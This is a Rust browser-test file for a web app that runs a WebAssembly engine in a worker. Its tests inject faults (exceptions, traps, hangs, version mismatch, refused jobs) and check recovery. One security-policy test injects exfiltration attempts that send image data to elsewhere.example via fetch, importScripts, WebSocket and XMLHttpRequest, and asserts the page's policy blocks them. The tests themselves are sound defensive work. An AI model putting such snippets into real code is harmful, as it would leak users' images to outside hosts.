//! An engine that ends, hangs, or is of another version; and what it may reach.

use super::*;

fn read_request() -> Request {
    Request::Read {
        id: 0,
        file: String::new(),
        depth: None,
        keep: true,
    }
}

fn measure_request() -> Request {
    Request::Measure {
        id: 0,
        output: Output(0),
        map: None,
        other: None,
        options: faithfulness::Options::default(),
    }
}

/// Runs `script` in the engine in place of what it does with a request of this kind.
fn at_request(request: &Request, script: &str) -> Result<Vec<u8>> {
    // A message begins with the number of its kind.
    let kind = encode(request)[0];
    engine_after(&format!(
        "const listen = self.addEventListener.bind(self);
        self.addEventListener = (name, hear) => listen(name, event => {{
            const data = event.data;
            if (name === 'message' && data instanceof Array && data[0][0] === {kind}) {{ {script} }}
            else hear(event);
        }});"
    ))
}

/// Lets the page's heart beat a hundred times as fast once it is told to; what the engine says can come in between.
const HURRY: &str = "const set = self.setInterval.bind(self);
    self.setInterval = (beat, every) => {
        let beats = 0;
        return set(() => { if (self.hurry || ++beats % 100 === 0) beat(); }, every / 100);
    };";

#[tokio::test]
async fn an_engine_that_ends_in_any_way_ends_the_waiting_and_can_be_loaded_again() -> Result<()> {
    let ends = [
        (
            "an exception",
            "setTimeout(() => { throw new Error('it broke') })",
        ),
        (
            "a trap",
            "Promise.reject(new WebAssembly.RuntimeError('unreachable'))",
        ),
        (
            "no sense",
            "postMessage(new Uint8Array([255, 255, 255, 255]))",
        ),
    ];
    for (name, script) in ends {
        let server = Server::start()?;
        server.answer_instead("engine.js", at_request(&read_request(), script)?);
        let page = open(&server, "?device=cpu").await?;
        page.element("sample-1").await?.click().await?;
        page.wait_for_error("The engine stopped", READ)
            .await
            .context(name)?;
        ensure!(page.state().await? == "error", "{name}");
        if name == "a trap" {
            page.screenshot("wide-engine-ended").await?;
        }
        // The next engine is sound, and reads what was given.
        server.answer_instead("engine.js", engine_after("")?);
        let again = page.driver.find(By::Css(".remedies button")).await?;
        again.click().await?;
        page.wait_for(&["ready"], LOAD).await.context(name)?;
        assert_scores_are_native(&page, &sample("effusion.jpg")).await?;
        page.close().await?;
    }
    Ok(())
}

#[tokio::test]
async fn an_engine_that_ends_or_hangs_without_a_word_is_noticed() -> Result<()> {
    for script in ["self.close()", "for (;;) {}"] {
        let server = Server::start()?;
        server.answer_instead("engine.js", at_request(&read_request(), script)?);
        let page = open(&server, "?device=cpu").await?;
        page.reload_with(HURRY).await?;
        page.wait_for(&["idle"], LOAD).await?;
        page.element("sample-1").await?.click().await?;
        page.wait_for(&["reading"], READ).await?;
        // As if it had been silent for minutes.
        page.script("window.hurry = true", vec![]).await?;
        page.wait_for_error("no longer answers", READ)
            .await
            .context(script)?;
        page.close().await?;
    }
    // One that answers is not taken for dead, however often it is asked.
    let server = Server::start()?;
    let page = open(&server, "?device=cpu").await?;
    page.reload_with(HURRY).await?;
    page.wait_for(&["idle"], LOAD).await?;
    page.script("window.hurry = true", vec![]).await?;
    tokio::time::sleep(Duration::from_secs(4)).await;
    ensure!(page.state().await? == "idle", "{}", page.state().await?);
    ensure!(
        !page.exists("error").await?,
        "{}",
        page.text("error").await?
    );
    page.element("sample-1").await?.click().await?;
    page.wait_for(&["ready"], READ).await?;
    page.close().await
}

#[tokio::test]
async fn an_engine_that_cannot_be_loaded_says_so() -> Result<()> {
    for (file, bytes) in [
        ("engine.js", &b"no program ("[..]),
        ("engine_bg.wasm", b"no wasm"),
        ("engine.js", b"throw new Error('not today')"),
    ] {
        let server = Server::start()?;
        server.answer_instead(file, bytes.to_vec());
        let page = Page::open(&server, "?device=cpu", Options::default()).await?;
        page.wait_for_error("The engine could not be loaded", LOAD)
            .await
            .context(file)?;
        page.close().await?;
    }
    Ok(())
}

#[tokio::test]
async fn an_engine_of_another_version_is_not_used_and_the_page_says_to_reload() -> Result<()> {
    let server = Server::start()?;
    let other = "const post = self.postMessage.bind(self);
        self.postMessage = (said, ...rest) =>
            post(typeof said === 'string' && said.startsWith('ready') ? 'ready another' : said, ...rest);";
    server.answer_instead("engine.js", engine_after(other)?);
    let page = Page::open(&server, "?device=cpu", Options::default()).await?;
    page.wait_for_error("updated on its server", LOAD).await?;
    let (name, _) = model()?;
    let weights = server.count(&format!("models/{name}/weights.bpk"));
    ensure!(weights == 0, "the other version was told to load a model");
    page.screenshot("wide-other-version").await?;
    // What the page offers is enough.
    server.answer_instead("engine.js", engine_after("")?);
    let reload = page.driver.find(By::Css(".remedies button")).await?;
    reload.click().await?;
    page.wait_for(&["idle"], LOAD).await?;
    page.close().await
}

/// A worker from a file would have the policy of that file's headers: none, from most servers.
#[tokio::test]
async fn the_pages_policy_binds_its_engine_and_the_engines_helpers() -> Result<()> {
    let server = Server::start()?;
    // Every engine, helpers too, tries to send something elsewhere, before it does what it should.
    let leaks = "Object.defineProperty(navigator, 'hardwareConcurrency', { value: 2 });
        const away = 'http://elsewhere.example/pixels';
        fetch(away, { method: 'POST', body: 'pixels', mode: 'no-cors' }).catch(() => {});
        try { importScripts(away); } catch {}
        try { new WebSocket('ws://elsewhere.example/pixels'); } catch {}
        try { const ask = new XMLHttpRequest(); ask.open('GET', away, false); ask.send(); } catch {}
        fetch(new URL('/it-tried', self.home)).catch(() => {});";
    server.answer_instead("engine.js", engine_after(leaks)?);
    let page = open(&server, "?device=cpu").await?;
    explain_by_lime(&page, 50).await?;
    let tried = server.count("it-tried");
    ensure!(tried == 2, "{tried} engines tried: there is little to see");
    ensure!(
        server.foreign().is_empty(),
        "requests left the origin: {:?}",
        server.foreign()
    );
    page.close().await
}

/// The policy allows no style and no script within the page's text, and nothing that the page does asks for one.
#[tokio::test]
async fn nothing_on_the_page_is_against_its_own_policy() -> Result<()> {
    let server = Server::start()?;
    let page = open(&server, "?device=cpu").await?;
    let policy = "return document.querySelector('meta[http-equiv]').content";
    let policy = page.script(policy, Vec::new()).await?.to_string();
    ensure!(
        !policy.contains("unsafe-inline") && policy.contains("style-src 'self'"),
        "{policy}"
    );
    page.reload_with(
        "window.against = [];
         document.addEventListener('securitypolicyviolation', event =>
             window.against.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));",
    )
    .await?;
    page.wait_for(&["idle"], LOAD).await?;
    page.element("sample-1").await?.click().await?;
    page.wait_for(&["ready"], READ).await?;
    let layer = "const layer = document.querySelector('[data-testid=overlay-canvas]');
        return [layer.style.width, getComputedStyle(layer).opacity]";
    ensure!(page.script(layer, Vec::new()).await? == serde_json::json!(["100%", "0.6"]));
    page.driver
        .find(By::Css("details.card summary"))
        .await?
        .click()
        .await?;
    page.element("model-card-button").await?.click().await?;
    page.wait_for_words("model-card", "Area under the ROC curve", READ)
        .await?;
    let right = "return getComputedStyle(document.querySelector('[data-testid=model-card] td.right')).textAlign";
    ensure!(page.script(right, Vec::new()).await? == "right");
    let against = page.script("return window.against", Vec::new()).await?;
    ensure!(against == serde_json::json!([]), "{against}");
    page.close().await
}

#[tokio::test]
async fn a_refused_measurement_leaves_the_picture_and_everything_else_usable() -> Result<()> {
    let server = Server::start()?;
    // The picture is fetched under the first number, and read under the second.
    let refused = encode(&Answer::Refused(Refusal::Job {
        id: 2,
        why: Reason::Unmeasurable("the model was not trained on the finding".to_owned()),
    }));
    let script = format!("postMessage([new Uint8Array({refused:?}), undefined]);");
    server.answer_instead("engine.js", at_request(&measure_request(), &script)?);
    let page = open(&server, "?device=cpu").await?;
    page.element("sample-1").await?.click().await?;
    page.wait_for(&["ready"], READ).await?;
    page.element("measure").await?.click().await?;
    page.wait_for_error("not trained", READ).await?;
    page.screenshot("wide-job-refused").await?;
    ensure!(page.state().await? == "ready", "{}", page.state().await?);
    assert_scores_are_native(&page, &sample("effusion.jpg")).await?;
    page.element("dismiss").await?.click().await?;
    ensure!(!page.exists("error").await?, "the complaint is still shown");
    // Painting, another job and another model go on with the same picture.
    page.element("easel").await?.click().await?;
    page.element("undo").await?;
    choose(&page, "lime-samples", "50").await?;
    choose(&page, "explain-method", "lime").await?;
    page.wait_for(&["explaining"], READ).await?;
    page.wait_for(&["ready"], SLOW).await?;
    choose(&page, "model-select", "densenet121-nih").await?;
    page.wait_for(&["loading"], READ).await?;
    page.wait_for(&["ready"], LOAD).await?;
    let (_, json) = page.saved_by("export-json").await?;
    let report: Report = serde_json::from_slice(&json)?;
    ensure!(
        report.model.name == "densenet121-nih",
        "{}",
        report.model.name
    );
    page.close().await
}
